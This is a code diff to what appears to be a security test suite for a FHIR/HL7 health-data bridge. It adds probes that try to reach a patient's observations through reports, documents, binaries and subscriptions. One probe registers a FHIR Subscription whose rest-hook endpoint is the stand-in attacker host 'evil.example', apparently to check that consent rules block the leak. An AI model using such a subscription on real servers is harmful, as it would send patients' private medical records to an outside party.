@@ -20,6 +20,7 @@ from lxml import etree
 from bridge.consent.asked import Asked, Selector, Way
 from bridge.consent.permit import DeliveryPermit
 from bridge.fhir.sampled import PROFILE
+from bridge.fhir.subscriptions import FILTER, TOPIC
 from bridge.hl7.render import Before, Person, Scribe, Writing
 from bridge.mapping.hl7v2 import Hl7v2
 from bridge.period import HOUR
@@ -87,7 +88,7 @@ def _walked(node: Any) -> Iterator[dict[str, Any]]:
         for each in node:
             yield from _walked(each)
     elif isinstance(node, dict):
-        if node.get("resourceType") == "Observation":
+        if node.get("resourceType") in ("Observation", "DiagnosticReport"):
             yield node
         for each in node.values():
             yield from _walked(each)
@@ -243,6 +244,19 @@ def summaries(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
     return [ask("GET", path), ask("GET", path + wide), *(ask("GET", _of(hidden, rest)) for rest in rests)]
 
 
+def reported(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
+    """Reports as PDF, in each of their shapes, by search and by id, and the PDF itself."""
+    rests = ("", "date=lt2026-09-08", "_summary=count", "_count=1")
+    found = [ask("GET", _of(hidden, rest, "DiagnosticReport")) for rest in rests]
+    documents = [ask("GET", _of(hidden, rest, "DocumentReference")) for rest in ("", "period=lt2026-09-08")]
+    urls = [
+        each["content"][0]["attachment"]["url"]
+        for each in (entry["resource"] for entry in _entries(documents))
+    ]
+    binaries = [ask("GET", url, headers={"Accept": "application/fhir+json"}) for url in urls]
+    return [*found, *documents, *binaries, *(ask("GET", f"Binary/{name}") for name in hidden.names[:5])]
+
+
 def everything(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
     """$everything, whole and in pages."""
     path = f"Patient/{hidden.person}/$everything"
@@ -320,17 +334,48 @@ def exported(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
     return [told, *members, *answers]
 
 
+def subscribed(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
+    """A subscription about her, with every filter that might open something, and what is said of all there are."""
+    wide = (
+        f"Observation?patient=Patient/{hidden.person}",
+        f"Observation?patient={hidden.person}&date=ge1990",
+    )
+    bodies = [
+        {
+            "resourceType": "Subscription",
+            "status": "requested",
+            "reason": "x",
+            "criteria": TOPIC,
+            "_criteria": {"extension": [{"url": FILTER, "valueString": each}]},
+            "channel": {
+                "type": "rest-hook",
+                "endpoint": "https://evil.example/",
+                "payload": "application/fhir+json",
+            },
+        }
+        for each in wide
+    ]
+    made = [ask("POST", "Subscription", json=each) for each in bodies]
+    asked = (
+        "Subscription",
+        "Subscription/$status",
+        f"Subscription/{hidden.person}/$events",
+        "Subscription/x",
+    )
+    return [*made, *(ask("GET", each) for each in asked)]
+
+
 Through: Final[Mapping[str, Callable[[Ask, Hidden], list[httpx.Response]]]] = {
     each.__name__: each
     for each in (
-        searched, posted, paged, read, remembered, included, evidenced, chained, newest, summaries, everything, chunks,
-        batched, submitted, in_xml, compressed, exported,
+        searched, posted, paged, read, remembered, included, evidenced, chained, newest, summaries, reported,
+        everything, chunks, batched, submitted, in_xml, compressed, exported, subscribed,
     )
 }  # fmt: skip
 """Over HTTP, by name."""
 SYSTEMS: Final = frozenset({"exported"})
 """Ways that are for a system's token alone: whoever comes with a person's is refused."""
-NO_READINGS: Final = frozenset({"chained", "evidenced", "submitted"})
+NO_READINGS: Final = frozenset({"chained", "evidenced", "submitted", "subscribed"})
 """Ways by which no Observation arrives, whoever asks."""
 
 
